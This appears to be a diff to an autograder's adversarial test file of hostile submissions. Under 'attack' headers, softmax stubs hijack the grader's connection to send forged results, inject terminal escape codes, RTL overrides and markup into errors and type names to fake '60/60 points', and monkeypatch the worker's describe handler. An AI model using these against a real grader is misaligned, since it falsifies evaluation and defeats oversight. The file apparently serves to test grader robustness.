@@ -185,7 +185,7 @@ def softmax(x, dim=-1):
     return uniform(x)
 
 
-# %% attack reads_the_requests: a thread that takes the requests before they are seen
+# %% bomb reads_the_requests: a thread that takes the requests before they are seen
 def steal():
     fd = connection()
     while True:
@@ -205,8 +205,10 @@ def softmax(x, dim=-1):
 
 # %% attack replaces_the_connection: puts a socket of its own in the place of the connection
 def softmax(x, dim=-1):
+    fd = connection()
     mine, theirs = socket.socketpair()
-    os.dup2(mine.fileno(), connection())
+    theirs.sendall(forged(request_number(), uniform(x)))
+    os.dup2(mine.fileno(), fd)
     return uniform(x)
 
 
@@ -215,20 +217,25 @@ def softmax(x, dim=-1):
     raise ValueError("\x1b[2J\x1b]0;60/60\x07\r60/60 points \ud800 \u202e \x00 [/bold] [link=file:///etc]x </script>")
 
 
-# %% attack a_type_from_the_terminal: the same as the name of a type, of a parameter and in a value's repr
+# %% attack a_type_from_the_terminal: the same as the name of a type and in a value's repr
 class Odd:
     def __repr__(self):
         return "\x1b[2J\ud800[/red]"
 
 
-Odd.__name__ = "\x1b[2J\ud800[/red]"
+Odd.__name__ = "\x1b[2J[/red]\u202e"
 
 
 def softmax(x, dim=-1):
-    return Odd()
+    return [Odd(), "\x1b[2J", {"\x1b": Odd()}]
 
 
-softmax.__signature__ = __import__("inspect").Signature()
+# %% attack a_signature_from_the_terminal: the same as the names of a function's parameters and of its type
+import autograder.worker.answers as answers
+
+rows = [["\x1b[2J\ud800[/red]", "POSITIONAL_ONLY", False]] * 3
+found = {"exists": True, "callable": True, "type": "\x1b[2J", "parameters": rows}
+answers.Answers.on_describe = lambda self, name: {"ok": found}
 
 # %% attack its_own_worker: replaces the functions of the worker that answer for it
 import autograder.wire
